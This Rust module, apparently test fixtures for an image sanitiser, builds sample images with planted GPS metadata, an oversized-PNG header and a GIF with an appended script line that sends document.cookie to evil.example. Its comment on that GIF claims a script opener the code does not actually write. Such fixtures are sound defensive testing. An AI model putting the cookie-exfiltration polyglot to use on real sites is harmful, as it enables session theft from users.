//! Small pictures made on the spot, and the things that people hide in them.
#![allow(dead_code, reason = "every test file takes what it needs")]

pub mod planted;

use image::codecs::gif::{GifEncoder, Repeat};
use image::{DynamicImage, Frame, ImageFormat, Rgb, RgbImage, Rgba, RgbaImage};
use std::io::Cursor;

/// Words that stand for the position of a photographer's house.
pub const SECRET: &[u8] = b"GPS 12.7855N 45.0187E nader-house";

/// A picture whose left half is red and whose right half is blue.
pub fn two_halves(width: u32, height: u32) -> RgbImage {
    RgbImage::from_fn(width, height, |x, _| match x < width / 2 {
        true => Rgb([200, 30, 30]),
        false => Rgb([30, 30, 200]),
    })
}

pub fn encoded(image: impl Into<DynamicImage>, format: ImageFormat) -> Vec<u8> {
    let mut bytes = Cursor::new(Vec::new());
    image.into().write_to(&mut bytes, format).unwrap();
    bytes.into_inner()
}

pub fn jpeg(width: u32, height: u32) -> Vec<u8> {
    encoded(two_halves(width, height), ImageFormat::Jpeg)
}

pub fn png(width: u32, height: u32) -> Vec<u8> {
    encoded(two_halves(width, height), ImageFormat::Png)
}

pub fn webp(width: u32, height: u32) -> Vec<u8> {
    encoded(two_halves(width, height), ImageFormat::WebP)
}

/// A moving picture: one green frame, then one black.
pub fn moving_gif(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut encoder = GifEncoder::new(&mut bytes);
    encoder.set_repeat(Repeat::Infinite).unwrap();
    for ink in [Rgba([0, 200, 0, 255]), Rgba([0, 0, 0, 255])] {
        encoder.encode_frame(Frame::new(RgbaImage::from_pixel(width, height, ink))).unwrap();
    }
    drop(encoder);
    bytes
}

/// A JPEG with an EXIF block: the turn (1 to 8, EXIF 2.32 tag 0x0112) and [`SECRET`].
pub fn jpeg_with_exif(width: u32, height: u32, turn: u8) -> Vec<u8> {
    let mut exif = b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0".to_vec();
    exif.extend([turn, 0, 0, 0, 0, 0, 0]);
    exif.extend(SECRET);
    let mut bytes = jpeg(width, height);
    bytes.splice(2..2, segment(0xE1, &exif));
    bytes
}

/// A JPEG with a comment and an XMP block that name a person.
pub fn jpeg_with_comment(width: u32, height: u32) -> Vec<u8> {
    let xmp = [b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>".as_slice(), SECRET].concat();
    let mut bytes = jpeg(width, height);
    bytes.splice(2..2, [segment(0xFE, SECRET), segment(0xE1, &xmp)].concat());
    bytes
}

/// A PNG with a text chunk; the decoder checks its checksum.
pub fn png_with_text(width: u32, height: u32) -> Vec<u8> {
    let text = [b"Comment\0".as_slice(), SECRET].concat();
    let mut bytes = png(width, height);
    bytes.splice(33..33, chunk(b"tEXt", &text));
    bytes
}

/// Nothing but the head of a PNG that claims `side × side` pixels, and a little data.
pub fn png_claiming(side: u32) -> Vec<u8> {
    let mut head = [side.to_be_bytes(), side.to_be_bytes()].concat();
    head.extend([8, 6, 0, 0, 0]);
    let mut bytes = b"\x89PNG\r\n\x1A\n".to_vec();
    bytes.extend(chunk(b"IHDR", &head));
    bytes.extend(chunk(b"IDAT", b"\x78\x9c\x63\x60\x00\x00"));
    bytes.extend(chunk(b"IEND", b""));
    bytes
}

/// A GIF that is also a script: `GIF89a=1;/*` … `*/` followed by code, still a valid picture.
pub fn gif_and_script() -> Vec<u8> {
    let mut bytes = moving_gif(16, 16);
    bytes.extend(b"*/=1;fetch('//evil.example/'+document.cookie)");
    bytes
}

fn segment(marker: u8, content: &[u8]) -> Vec<u8> {
    let length = u16::try_from(content.len() + 2).unwrap().to_be_bytes();
    [&[0xFF, marker], length.as_slice(), content].concat()
}

fn chunk(name: &[u8; 4], content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).unwrap().to_be_bytes();
    let named = [name.as_slice(), content].concat();
    [length.as_slice(), &named, &crc(&named).to_be_bytes()].concat()
}

/// CRC-32 of ISO 3309, as PNG annex D gives it.
fn crc(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |crc, &byte| {
        (0..8).fold(crc ^ u32::from(byte), |crc, _| match crc & 1 {
            1 => 0xEDB8_8320 ^ (crc >> 1),
            _ => crc >> 1,
        })
    })
}
